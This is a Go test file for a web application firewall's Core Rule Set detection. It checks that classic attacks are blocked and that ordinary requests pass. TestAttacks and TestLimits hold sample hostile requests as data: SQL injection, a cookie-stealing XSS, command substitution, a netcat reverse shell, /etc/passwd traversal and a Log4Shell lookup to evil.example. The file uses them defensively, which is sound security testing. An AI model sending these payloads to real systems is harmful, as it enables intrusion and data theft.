package crs_test

import (
	"context"
	"fmt"
	"net/http"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/rampartgw/rampart/detections"
	"github.com/rampartgw/rampart/detections/crs"
)

// req is a request in the terms a test table wants: a request-target, a
// content type and a body, extra headers.
type req struct {
	method, target string
	ctype, body    string
	header         [][2]string
}

// view builds the request view the gateway would: the browser's usual
// headers, then the extra ones.
func (q req) view() *detections.Request {
	h := http.Header{}
	h.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0")
	h.Set("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")
	h.Set("Accept-Language", "en-US,en;q=0.5")
	h.Set("Accept-Encoding", "gzip, deflate, br")
	if q.ctype != "" {
		h.Set("Content-Type", q.ctype)
	}
	for _, kv := range q.header {
		h.Add(kv[0], kv[1])
	}
	m := q.method
	if m == "" {
		m = "GET"
	}
	path, query, _ := strings.Cut(q.target, "?")
	r := &detections.Request{ID: "test", Method: m, Host: "shop.example.com", Proto: "HTTP/1.1", Header: h,
		Path: path, RawPath: path, RawQuery: query, ClientIP: netip.MustParseAddr("198.51.100.7")}
	if q.body != "" {
		r.Body = []byte(q.body)
		h.Set("Content-Length", fmt.Sprint(len(q.body)))
	}
	return r
}

// shared holds one detection per paranoia level: compiling the CRS takes
// tens of milliseconds, and the detection is safe for concurrent use.
var shared struct {
	sync.Mutex
	m map[int]*crs.CRS
}

func atLevel(t testing.TB, pl int) *crs.CRS {
	t.Helper()
	shared.Lock()
	defer shared.Unlock()
	if c := shared.m[pl]; c != nil {
		return c
	}
	cfg := crs.DefaultConfig()
	cfg.ParanoiaLevel = pl
	c, err := crs.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if shared.m == nil {
		shared.m = map[int]*crs.CRS{}
	}
	shared.m[pl] = c
	return c
}

func newCRS(t *testing.T, cfg crs.Config) *crs.CRS {
	t.Helper()
	c, err := crs.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = c.Close() })
	return c
}

func inspect(t *testing.T, c *crs.CRS, q req) detections.Verdict {
	t.Helper()
	v, err := c.Inspect(t.Context(), q.view())
	if err != nil {
		t.Fatal(err)
	}
	return v
}

// writeRules writes a rule file into a fresh directory and returns its
// path.
func writeRules(t *testing.T, name, text string) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), name)
	if err := os.WriteFile(p, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	return p
}

func TestName(t *testing.T) {
	t.Parallel()
	if n := atLevel(t, 1).Name(); n != "crs" {
		t.Fatalf("Name() = %q", n)
	}
	if n := atLevel(t, 1).Rules(); n < 300 {
		t.Fatalf("only %d rules loaded", n)
	}
}

func TestValidate(t *testing.T) {
	t.Parallel()
	if err := crs.DefaultConfig().Validate(); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name string
		edit func(*crs.Config)
		want []string
	}{
		{"paranoia level", func(c *crs.Config) { c.ParanoiaLevel = 5 }, []string{"crs.paranoia_level: 5"}},
		{"threshold", func(c *crs.Config) { c.AnomalyThreshold = 0 }, []string{"crs.anomaly_threshold"}},
		{"nothing to run", func(c *crs.Config) { c.CoreRuleSet = false }, []string{"nothing to run"}},
		{"body limit", func(c *crs.Config) { c.MaxBodyBytes = -1 }, []string{"crs.max_body_bytes"}},
		{"args limit", func(c *crs.Config) { c.MaxArgs = 0 }, []string{"crs.max_args"}},
		{"blocking evaluation", func(c *crs.Config) { c.ExcludeRules = []int{949110} }, []string{"949110", "blocking evaluation"}},
		{"own rule", func(c *crs.Config) { c.ExcludeRules = []int{crs.RuleArgsLimit} }, []string{"max_args"}},
		{"bad glob", func(c *crs.Config) { c.Rules = []string{"rules/[.conf"} }, []string{"crs.rules[0]"}},
		{"every problem at once", func(c *crs.Config) { c.ParanoiaLevel, c.MaxArgs = 0, 0 },
			[]string{"crs.paranoia_level", "crs.max_args"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			cfg := crs.DefaultConfig()
			tc.edit(&cfg)
			err := cfg.Validate()
			if err == nil {
				t.Fatal("no error")
			}
			for _, w := range tc.want {
				if !strings.Contains(err.Error(), w) {
					t.Errorf("error %q does not say %q", err, w)
				}
			}
			if _, err := crs.New(cfg); err == nil {
				t.Error("New accepted the config")
			}
		})
	}
}

// TestAttacks: classic attacks are blocked at paranoia level 1 by a rule
// of the expected CRS family, and the logged location names the variable,
// never the payload.
func TestAttacks(t *testing.T) {
	t.Parallel()
	c := atLevel(t, 1)
	for _, tc := range []struct {
		name    string
		q       req
		family  string // rule id prefix
		loc     string
		payload string // must not appear in the location
	}{
		{"sqli in the query", req{target: "/products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--"}, "942", "ARGS:id", "UNION"},
		{"sqli tautology", req{target: "/?q=1%20AND%201=1"}, "942", "ARGS:q", "AND"},
		{"sqli in a json body", req{method: "POST", target: "/api/login", ctype: "application/json",
			body: `{"user":"admin' OR '1'='1' --","pass":"x"}`}, "9", "ARGS:json.user", "admin"},
		{"xss in a form", req{method: "POST", target: "/comment", ctype: "application/x-www-form-urlencoded",
			body: "text=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"}, "941", "ARGS:text", "script"},
		{"xss in a cookie", req{target: "/", header: [][2]string{{"Cookie", "pref=<img src=x onerror=alert(1)>"}}}, "941", "REQUEST_COOKIES:pref", "onerror"},
		{"command substitution", req{target: "/?cmd=$(whoami)"}, "932", "ARGS:cmd", "whoami"},
		{"reverse shell", req{target: "/?host=;nc%20-e%20/bin/sh%2010.0.0.1%204444"}, "932", "ARGS:host", "/bin/sh"},
		{"path traversal", req{target: "/download?file=../../../../etc/passwd"}, "930", "", "passwd"},
		{"log4shell in a header", req{target: "/", header: [][2]string{{"X-Api-Version", "${jndi:ldap://evil.example/a}"}}}, "944", "REQUEST_HEADERS:X-Api-Version", "jndi"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			v := inspect(t, c, tc.q)
			if v.Action != detections.ActionBlock || v.Reason != crs.ReasonAnomaly {
				t.Fatalf("verdict %+v, want a crs_anomaly block", v)
			}
			if !strings.HasPrefix(v.Rule, tc.family) || len(v.Rule) != 6 {
				t.Errorf("rule %q, want a %sxxx rule", v.Rule, tc.family)
			}
			if tc.loc != "" && v.Location != tc.loc {
				t.Errorf("location %q, want %q", v.Location, tc.loc)
			}
			if v.Location == "" || strings.Contains(v.Location, tc.payload) {
				t.Errorf("location %q is empty or shows the payload", v.Location)
			}
			if v.Score < crs.DefaultConfig().AnomalyThreshold {
				t.Errorf("score %d under the threshold", v.Score)
			}
		})
	}
}

// benign are ordinary requests that must pass at paranoia level 1.
var benign = []struct {
	name string
	q    req
}{
	{"browser get", req{target: "/catalog/shoes?color=black&size=42&sort=price_asc",
		header: [][2]string{{"Cookie", "session=8f14e45fceea167a5a36dedd4bea2543; lang=en"}, {"Referer", "https://shop.example.com/"}}}},
	{"search with an apostrophe", req{target: "/search?q=O%27Reilly+books"}},
	{"json api", req{method: "POST", target: "/api/v2/orders", ctype: "application/json",
		body: `{"items":[{"sku":"A-1001","qty":2}],"note":"Leave at the door, thanks!","email":"jo@example.com"}`}},
	{"login form", req{method: "POST", target: "/login", ctype: "application/x-www-form-urlencoded",
		body: "username=jdoe&password=correct+horse+battery+staple&remember=on"}},
	{"multipart upload", req{method: "POST", target: "/upload", ctype: "multipart/form-data; boundary=XyZ",
		body: "--XyZ\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nHoliday\r\n" +
			"--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"beach.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n\xff\xd8\xff\xe0JFIF\r\n--XyZ--\r\n"}},
	{"redirect parameter", req{target: "/login?next=%2Faccount%2Forders%3Fpage%3D2"}},
}

func TestBenign(t *testing.T) {
	t.Parallel()
	c := atLevel(t, 1)
	for _, tc := range benign {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			if v := inspect(t, c, tc.q); v.Action != detections.ActionAllow {
				t.Fatalf("verdict %+v, want allow", v)
			}
		})
	}
}

// TestParanoiaLevel: a higher level loads more rules, so a request that
// passes at PL1 is blocked at PL2, and a higher threshold lets through
// what the default one blocks.
func TestParanoiaLevel(t *testing.T) {
	t.Parallel()
	q := req{target: "/?q=select+name+from+users"}
	if v := inspect(t, atLevel(t, 1), q); v.Action != detections.ActionAllow {
		t.Fatalf("PL1: %+v, want allow", v)
	}
	v := inspect(t, atLevel(t, 2), q)
	if v.Action != detections.ActionBlock || !strings.HasPrefix(v.Rule, "942") {
		t.Fatalf("PL2: %+v, want a 942 block", v)
	}
	cfg := crs.DefaultConfig()
	cfg.ParanoiaLevel, cfg.AnomalyThreshold = 2, v.Score+1
	if v := inspect(t, newCRS(t, cfg), q); v.Action != detections.ActionAllow {
		t.Fatalf("PL2 with threshold %d: %+v, want allow", cfg.AnomalyThreshold, v)
	}
}

func TestExcludeRules(t *testing.T) {
	t.Parallel()
	q := req{target: "/?q=1%20AND%201=1"}
	v := inspect(t, atLevel(t, 1), q)
	if v.Action != detections.ActionBlock || v.Rule != "942100" || v.Score != 5 {
		t.Fatalf("without exclusions: %+v, want 942100 alone", v)
	}
	cfg := crs.DefaultConfig()
	cfg.ExcludeRules = []int{942100}
	if v := inspect(t, newCRS(t, cfg), q); v.Action != detections.ActionAllow {
		t.Fatalf("942100 excluded: %+v, want allow", v)
	}
	cfg.ExcludeRules = []int{942100, 123456}
	if _, err := crs.New(cfg); err == nil || !strings.Contains(err.Error(), "rule 123456 is not loaded") {
		t.Fatalf("excluding an unknown rule: %v", err)
	}
}

const virtualPatch = `# Virtual patch for a made-up CVE in /vuln.
SecRule REQUEST_URI "@contains /vuln" \
    "id:100001,phase:1,deny,status:403,log,t:none,t:lowercase,msg:'virtual patch: /vuln'"
`

// TestVirtualPatch: an operator's rule file is enforced on its own
// (core_rule_set: false) and next to the CRS, and its rule id is the
// verdict's.
func TestVirtualPatch(t *testing.T) {
	t.Parallel()
	path := writeRules(t, "vpatch.conf", virtualPatch)
	only := crs.DefaultConfig()
	only.CoreRuleSet, only.Rules = false, []string{path}
	withCRS := crs.DefaultConfig()
	withCRS.Rules = []string{filepath.Join(filepath.Dir(path), "*.conf")}
	for _, cfg := range []crs.Config{only, withCRS} {
		c := newCRS(t, cfg)
		for _, tc := range []struct {
			target string
			block  bool
		}{{"/vuln/upload", true}, {"/VULN/upload?x=1", true}, {"/shop/vulcan-grill", false}, {"/orders", false}} {
			v := inspect(t, c, req{target: tc.target})
			if !tc.block {
				if v.Action != detections.ActionAllow {
					t.Errorf("core_rule_set=%v %s: %+v, want allow", cfg.CoreRuleSet, tc.target, v)
				}
				continue
			}
			if v.Action != detections.ActionBlock || v.Reason != crs.ReasonRule || v.Rule != "100001" || v.Location != "REQUEST_URI" {
				t.Errorf("core_rule_set=%v %s: %+v, want a crs_rule block by 100001 at REQUEST_URI", cfg.CoreRuleSet, tc.target, v)
			}
		}
		// Without the CRS nothing else is checked.
		if v := inspect(t, c, req{target: "/?q=1%20AND%201=1"}); v.Action == detections.ActionBlock != cfg.CoreRuleSet {
			t.Errorf("core_rule_set=%v: sqli verdict %+v", cfg.CoreRuleSet, v)
		}
	}
}

// TestOperatorRules: a rule file loaded before the CRS rules can add to
// the anomaly score or switch the engine off for a route, and one loaded
// after them can tune a CRS rule.
func TestOperatorRules(t *testing.T) {
	t.Parallel()
	cfg := crs.DefaultConfig()
	cfg.Rules = []string{writeRules(t, "score.conf", `SecRule REQUEST_HEADERS:X-Debug "@streq on" "id:100010,phase:1,pass,log,t:none,severity:'CRITICAL',msg:'debug switch',setvar:'tx.inbound_anomaly_score_pl1=+%{tx.critical_anomaly_score}'"
SecRule REQUEST_FILENAME "@beginsWith /internal/" "id:100011,phase:1,pass,nolog,ctl:ruleEngine=Off"`)}
	cfg.RulesAfterCRS = []string{writeRules(t, "tune.conf", `SecRuleUpdateTargetById 942100 "!ARGS:expr"`)}
	c := newCRS(t, cfg)
	v := inspect(t, c, req{target: "/", header: [][2]string{{"X-Debug", "on"}}})
	if v.Action != detections.ActionBlock || v.Reason != crs.ReasonAnomaly || v.Rule != "100010" || v.Score != 5 {
		t.Errorf("scoring rule: %+v, want a crs_anomaly block by 100010 with score 5", v)
	}
	if v := inspect(t, c, req{target: "/calc?expr=1%20AND%201=1"}); v.Action != detections.ActionAllow {
		t.Errorf("tuned-out target: %+v, want allow", v)
	}
	if v := inspect(t, c, req{target: "/calc?q=1%20AND%201=1"}); v.Rule != "942100" {
		t.Errorf("other target: %+v, want 942100", v)
	}
	if v := inspect(t, c, req{target: "/internal/metrics?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"}); v.Action != detections.ActionAllow {
		t.Errorf("engine off for /internal/: %+v, want allow", v)
	}
}

// TestBadRuleFile: a rule that does not compile stops start-up with the
// file and the line of the directive at fault.
func TestBadRuleFile(t *testing.T) {
	t.Parallel()
	good := `SecRule ARGS:a "@streq x" "id:100101,phase:1,deny,log"
`
	dir := t.TempDir()
	for _, tc := range []struct {
		name, text string
		after      bool
		line       int
		want       string
	}{
		{"unknown operator", good + "\n# comment\nSecRule ARGS:b \"@nosuchop x\" \\\n    \"id:100102,phase:1,deny\"\n", false, 4, "nosuchop"},
		{"unknown directive", good + "SecRule ARGS:c \"@rx c\" \"id:100103,phase:2,pass\"\nSecFrobnicate On\n", false, 3, "secfrobnicate"},
		{"duplicate id", good + "SecRule ARGS:d \"@rx d\" \"id:100101,phase:2,pass\"\n", false, 2, "100101"},
		{"unknown action", "\n\n" + good + "SecRule ARGS:e \"@rx e\" \"id:100104,phase:2,frobnicate\"\n", false, 4, "frobnicate"},
		{"bad regex", good + "SecAction \"id:100105,phase:1,pass\"\nSecRule ARGS:g \"@rx (\" \"id:100106,phase:2,pass\"\n", false, 3, "("},
		{"clashes with a crs id", good + "SecRule ARGS:f \"@rx f\" \"id:942100,phase:2,pass\"\n", true, 2, "942100"},
		{"a crs id taken before the crs", good + "SecRule ARGS:f \"@rx f\" \"id:942100,phase:2,pass\"\n", false, 2, "942100"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			path := filepath.Join(dir, strings.ReplaceAll(tc.name, " ", "-")+".conf")
			if err := os.WriteFile(path, []byte(tc.text), 0o600); err != nil {
				t.Fatal(err)
			}
			cfg := crs.DefaultConfig()
			key := "rules"
			if tc.after {
				cfg.RulesAfterCRS, key = []string{path}, "rules_after_crs"
			} else {
				cfg.Rules = []string{writeRules(t, "first.conf", `SecRule ARGS:z "@streq x" "id:100100,phase:1,deny,log"`), path}
			}
			_, err := crs.New(cfg)
			if err == nil {
				t.Fatal("no error")
			}
			want := fmt.Sprintf("crs.%s: %s:%d: ", key, path, tc.line)
			if !strings.Contains(err.Error(), want) || !strings.Contains(strings.ToLower(err.Error()), tc.want) {
				t.Fatalf("error %q, want %q and %q", err, want, tc.want)
			}
		})
	}
	t.Run("missing file", func(t *testing.T) {
		t.Parallel()
		cfg := crs.DefaultConfig()
		cfg.Rules = []string{filepath.Join(dir, "absent.conf"), filepath.Join(dir, "none-*.conf")}
		_, err := crs.New(cfg)
		if err == nil || !strings.Contains(err.Error(), "absent.conf") || !strings.Contains(err.Error(), "matches no file") {
			t.Fatalf("error %v", err)
		}
	})
	t.Run("testdata", func(t *testing.T) {
		t.Parallel()
		cfg := crs.DefaultConfig()
		cfg.Rules = []string{"testdata/virtual-patch.conf", "testdata/broken.conf"}
		_, err := crs.New(cfg)
		if err == nil || !strings.Contains(err.Error(), "crs.rules: testdata/broken.conf:9: ") {
			t.Fatalf("error %v", err)
		}
	})
}

// TestTestdataPatch: the example virtual patch in testdata compiles and
// works.
func TestTestdataPatch(t *testing.T) {
	t.Parallel()
	cfg := crs.DefaultConfig()
	cfg.Rules = []string{"testdata/virtual-patch.conf"}
	c := newCRS(t, cfg)
	v := inspect(t, c, req{method: "POST", target: "/api/v1/totp-setup/verify", ctype: "application/json", body: `{"code":"123456","otp_bypass":true}`})
	if v.Action != detections.ActionBlock || v.Rule != "100201" {
		t.Fatalf("patched request: %+v", v)
	}
	if v := inspect(t, c, req{method: "POST", target: "/api/v1/totp-setup/verify", ctype: "application/json", body: `{"code":"123456"}`}); v.Action != detections.ActionAllow {
		t.Fatalf("normal request: %+v", v)
	}
}

// TestLimits: nothing past a limit goes uninspected. Too many arguments
// (the junk-pairs bypass of the payload detection) is a block of its own,
// and a body that does not parse as declared is refused.
func TestLimits(t *testing.T) {
	t.Parallel()
	c := atLevel(t, 1)
	var junk strings.Builder
	for i := range 1500 {
		fmt.Fprintf(&junk, "a%d=b&", i)
	}
	v := inspect(t, c, req{target: "/?" + junk.String() + "z=ok"})
	if v.Action != detections.ActionBlock || v.Reason != crs.ReasonLimit || v.Rule != fmt.Sprint(crs.RuleArgsLimit) {
		t.Errorf("1501 arguments: %+v, want crs_limit", v)
	}
	v = inspect(t, c, req{target: "/?" + junk.String(), header: [][2]string{{"X-Api-Version", "${jndi:ldap://evil.example/a}"}}})
	if v.Action != detections.ActionBlock {
		t.Errorf("log4shell behind junk pairs: %+v", v)
	}
	cfg := crs.DefaultConfig()
	cfg.MaxArgs = 2000
	if v := inspect(t, newCRS(t, cfg), req{target: "/?" + junk.String() + "z=ok"}); v.Action != detections.ActionAllow {
		t.Errorf("1501 arguments under max_args 2000: %+v", v)
	}
	v = inspect(t, c, req{method: "POST", target: "/api", ctype: "application/json", body: `{"q": "1' OR '1'='1"`})
	if v.Action != detections.ActionBlock || v.Reason != crs.ReasonBodyError || v.Rule != "200002" {
		t.Errorf("broken json: %+v, want crs_body_error", v)
	}
}

// TestMaxBodyBytes: only the first max_body_bytes of a body are shown to
// Coraza.
func TestMaxBodyBytes(t *testing.T) {
	t.Parallel()
	body := "note=" + strings.Repeat("a", 200) + "&x=%3Cscript%3Ealert(1)%3C%2Fscript%3E"
	q := req{method: "POST", target: "/f", ctype: "application/x-www-form-urlencoded", body: body}
	if v := inspect(t, atLevel(t, 1), q); v.Action != detections.ActionBlock {
		t.Fatalf("whole body: %+v", v)
	}
	cfg := crs.DefaultConfig()
	cfg.MaxBodyBytes = 100
	if v := inspect(t, newCRS(t, cfg), q); v.Action != detections.ActionAllow {
		t.Fatalf("first 100 bytes: %+v", v)
	}
}

// TestNoTempFiles: Coraza stores each multipart file part in a temporary
// file for the transaction; closing the transaction removes it. A rule on
// FILES_TMPNAMES proves the file was written into TMPDIR, and TMPDIR is
// empty afterwards. Built with -tags no_fs_access, Coraza writes no file.
func TestNoTempFiles(t *testing.T) {
	dir := t.TempDir()
	t.Setenv("TMPDIR", dir)
	cfg := crs.DefaultConfig()
	cfg.Rules = []string{writeRules(t, "tmp.conf", `SecRule FILES_TMPNAMES "@beginsWith `+dir+`" "id:100400,phase:2,deny,log"`)}
	c := newCRS(t, cfg)
	up := benign[4].q
	for range 3 {
		v := inspect(t, c, up)
		if fsAccess && v.Rule != "100400" || !fsAccess && v.Action != detections.ActionAllow {
			t.Fatalf("upload: %+v", v)
		}
	}
	left, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	if len(left) != 0 {
		t.Fatalf("left in TMPDIR: %v", left)
	}
}

// TestConcurrent: one detection serves many goroutines, each with its own
// transaction (run with -race).
func TestConcurrent(t *testing.T) {
	t.Parallel()
	c := atLevel(t, 1)
	attack := req{target: "/?id=1%27%20UNION%20SELECT%20password%20FROM%20users--"}
	want := inspect(t, c, attack)
	var wg sync.WaitGroup
	errs := make(chan error, 8)
	for g := range 8 {
		wg.Go(func() {
			for i := range 25 {
				q := benign[(g+i)%len(benign)].q
				if i%2 == 0 {
					q = attack
				}
				v, err := c.Inspect(t.Context(), q.view())
				if err != nil {
					errs <- err
					return
				}
				if (i%2 == 0) != (v.Action == detections.ActionBlock) || i%2 == 0 && (v.Rule != want.Rule || v.Location != want.Location || v.Score != want.Score) {
					errs <- fmt.Errorf("goroutine %d request %d: %+v", g, i, v)
					return
				}
			}
		})
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Error(err)
	}
}

func TestCanceledContext(t *testing.T) {
	t.Parallel()
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	if _, err := atLevel(t, 1).Inspect(ctx, req{target: "/"}.view()); err == nil {
		t.Fatal("no error on a canceled context")
	}
}

// recorder keeps what the chain reports.
type recorder struct {
	mu     sync.Mutex
	would  []detections.Verdict
	failed []error
}

func (r *recorder) DetectionFailed(_ context.Context, _ *detections.Request, _ string, err error, _ []byte) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.failed = append(r.failed, err)
}

func (r *recorder) WouldBlock(_ context.Context, _ *detections.Request, _ string, v detections.Verdict) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.would = append(r.would, v)
}

// TestInChain: the detection runs in the chain like any other; in monitor
// mode a block is recorded as would-block with the CRS rule id.
func TestInChain(t *testing.T) {
	t.Parallel()
	c := atLevel(t, 1)
	attack := req{target: "/?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"}
	for _, mode := range []detections.Mode{detections.ModeEnforce, detections.ModeMonitor} {
		ch, err := detections.NewChain(detections.Entry{Detection: c, Mode: mode})
		if err != nil {
			t.Fatal(err)
		}
		rec := &recorder{}
		d := ch.Run(t.Context(), attack.view(), rec)
		switch mode {
		case detections.ModeEnforce:
			if d.Detection != "crs" || d.Status != http.StatusForbidden || !strings.HasPrefix(d.Verdict.Rule, "941") {
				t.Errorf("enforce: %+v", d)
			}
		case detections.ModeMonitor:
			if d.Verdict.Action != detections.ActionAllow || len(rec.would) != 1 || !strings.HasPrefix(rec.would[0].Rule, "941") {
				t.Errorf("monitor: %+v, would-block %+v", d, rec.would)
			}
		}
		if len(rec.failed) != 0 {
			t.Errorf("failures: %v", rec.failed)
		}
	}
}
